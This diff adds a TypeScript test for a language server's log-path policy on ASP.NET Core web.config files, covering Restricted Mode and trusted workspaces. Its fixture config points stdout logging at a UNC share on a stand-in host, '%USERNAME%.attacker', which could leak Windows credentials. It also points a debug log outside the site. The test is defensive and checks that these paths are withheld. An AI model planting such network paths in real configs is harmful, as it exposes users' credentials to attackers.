@@ -1,0 +1,110 @@
+import assert from 'node:assert/strict';
+import { mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import * as path from 'node:path';
+import { after, before, describe, it } from 'node:test';
+import { pathToFileURL } from 'node:url';
+import {
+  LOG_ENTRIES_NOTIFICATION,
+  type LogEntriesParams,
+  type LogEntryMessage,
+  OPEN_LOGS_REQUEST,
+  type OpenLogsParams,
+  type OpenLogsResult,
+  WORKSPACE_TRUST_NOTIFICATION,
+} from '../../server/src/protocol';
+import { publishedConfig } from '../unit/cursor';
+import { type ServerUnderTest, EDITOR_CAPABILITIES, startServer, withTimeout } from './harness';
+
+// A web.config a stranger wrote: its debug log is a file outside the site, its stdout goes to a network share
+// named after the user (on Windows, opening it would send the user's name and credentials to that host).
+describe('the log path policy over the protocol', () => {
+  let root: string;
+  let site: string;
+  let outsideLog: string;
+
+  before(() => {
+    root = realpathSync(mkdtempSync(path.join(tmpdir(), 'ancm-lsp-policy-')));
+    site = path.join(root, 'site');
+    mkdirSync(site);
+    outsideLog = path.join(root, 'outside', 'debug.log');
+    mkdirSync(path.dirname(outsideLog));
+    writeFileSync(outsideLog, '[2024-01-01T12:00:01.000Z, PID: 1] [aspnetcorev2.dll] a line from outside the site\n');
+    writeFileSync(path.join(site, 'inside.log'), '[2024-01-01T12:00:02.000Z, PID: 1] [aspnetcorev2.dll] a line from inside the site\n');
+    writeFileSync(path.join(site, 'web.config'), publishedConfig(`<aspNetCore processPath="dotnet" stdoutLogEnabled="true" stdoutLogFile="\\\\%USERNAME%.attacker\\share\\stdout">
+        <handlerSettings>
+          <handlerSetting name="debugFile" value="..\\outside\\debug.log" />
+          <handlerSetting name="debugLevel" value="FILE,TRACE" />
+        </handlerSettings>
+      </aspNetCore>`));
+  });
+
+  after(() => rmSync(root, { recursive: true, force: true }));
+
+  async function withServer(initializationOptions: object, run: (server: ServerUnderTest, received: LogEntryMessage[]) => Promise<void>): Promise<void> {
+    const received: LogEntryMessage[] = [];
+    const server = await startServer(EDITOR_CAPABILITIES, initializationOptions, (connection) => {
+      connection.onNotification(LOG_ENTRIES_NOTIFICATION, (params: LogEntriesParams) => received.push(...params.entries));
+    });
+    try {
+      await run(server, received);
+    } finally {
+      assert.equal(await server.stop(), 0);
+    }
+  }
+
+  function open(server: ServerUnderTest, params: Omit<OpenLogsParams, 'webConfigUri'> = {}): Promise<OpenLogsResult> {
+    return withTimeout(server.connection.sendRequest(OPEN_LOGS_REQUEST, { webConfigUri: pathToFileURL(path.join(site, 'web.config')).href, ...params }), 'open') as Promise<OpenLogsResult>;
+  }
+
+  /** Entries arrive batched after the open answer: wait for the inside file's line, then look at everything. */
+  async function settled(received: LogEntryMessage[]): Promise<void> {
+    await withTimeout(new Promise<void>((resolve) => {
+      const timer = setInterval(() => {
+        if (received.some((entry) => entry.text.includes('inside the site'))) {
+          clearInterval(timer);
+          resolve();
+        }
+      }, 10);
+    }), 'the inside file');
+    await new Promise((resolve) => setTimeout(resolve, 300));
+  }
+
+  it('without word of trust (Restricted Mode) reads only inside the site and asks nothing', () =>
+    withServer({}, async (server, received) => {
+      const result = await open(server, { extraFiles: ['inside.log', outsideLog, '\\\\server\\share\\x.log'], allowedPaths: [outsideLog] });
+      assert.deepEqual(result.sources.map((source) => source.id), [`extra:${path.join(site, 'inside.log')}`]);
+      assert.deepEqual(result.site.withheld.map((log) => [log.setting, log.reason, log.askable]), [
+        ['debugFile', 'outside-site', false],
+        ['stdoutLogFile', 'network', false],
+        ['ancm.logs.extraFiles', 'outside-site', false],
+        ['ancm.logs.extraFiles', 'network', false],
+      ]);
+      assert.equal(result.site.stdoutFolderExists, false);
+      assert.deepEqual(result.olderStdoutFiles, []);
+      await settled(received);
+      assert.ok(!received.some((entry) => entry.text.includes('outside the site')), 'consent sent by a client does not count in Restricted Mode');
+    }));
+
+  it('in a trusted workspace asks about the outside log, and reads it once agreed', () =>
+    withServer({ workspaceTrusted: true }, async (server, received) => {
+      const asked = await open(server, { extraFiles: ['inside.log'] });
+      assert.deepEqual(asked.site.withheld.map((log) => [log.setting, log.reason, log.askable]), [
+        ['debugFile', 'outside-workspace', true],
+        ['stdoutLogFile', 'network', true],
+      ]);
+      assert.ok(!asked.sources.some((source) => source.id === 'debug'));
+      const agreed = await open(server, { extraFiles: ['inside.log'], allowedPaths: [outsideLog] });
+      assert.ok(agreed.sources.some((source) => source.id === 'debug' && source.file === outsideLog));
+      assert.deepEqual(agreed.site.withheld.map((log) => log.setting), ['stdoutLogFile']);
+      await settled(received);
+      assert.ok(received.some((entry) => entry.text.includes('outside the site')));
+    }));
+
+  it('hears when the workspace becomes trusted', () =>
+    withServer({ workspaceTrusted: false }, async (server) => {
+      assert.equal((await open(server)).site.withheld[0].askable, false);
+      await server.connection.sendNotification(WORKSPACE_TRUST_NOTIFICATION, { trusted: true });
+      assert.equal((await open(server)).site.withheld[0].askable, true);
+    }));
+});
